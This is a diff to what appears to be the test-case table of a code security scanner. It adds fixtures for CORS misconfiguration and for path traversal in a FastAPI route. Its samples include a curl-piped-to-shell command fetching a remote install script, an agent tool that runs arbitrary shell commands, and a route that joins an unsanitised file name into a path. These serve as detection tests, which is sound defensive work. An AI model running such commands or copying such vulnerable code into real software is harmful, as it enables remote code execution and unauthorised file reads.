@@ -292,6 +292,9 @@ CASES = {
         {"a.py": "import os\nos.system('curl http://a.net/install.sh | sh')\n"},
         "piped-to-shell", "high",
     ),
+    "a key that makes no cookie": (
+        {"app.py": f"{CORS}secret_key = read()\n"}, "cors-everybody", "medium",
+    ),
     "a cookie of another program": (
         {"gateway/app.py": CORS, "portal/enter.py": COOKIE}, "cors-everybody", "medium",
     ),
@@ -335,6 +338,14 @@ CASES = {
          "@tool\nasync def run(command: str):\n    'Run.'\n"
          "    return await Bash.from_snapshot(b'').execute(command)\n"},
         "llm-sql", "",
+    ),
+    "a name of a route on one way, made safe on the other": (
+        {"a.py": "import os\nfrom fastapi import FastAPI\napp = FastAPI()\n"
+         "@app.get('/media/{name}')\ndef get(name, small: bool):\n    if small:\n"
+         "        result = os.path.join('small', name)\n    else:\n"
+         "        result = os.path.join('media', os.path.basename(name))\n"
+         "    return open(result)\n"},
+        "path-untrusted", "medium",
     ),
     "tables of a model in a sandbox": (
         {"a.py": "import pandasai\npandasai.chat(q, f, sandbox=box)\n"},
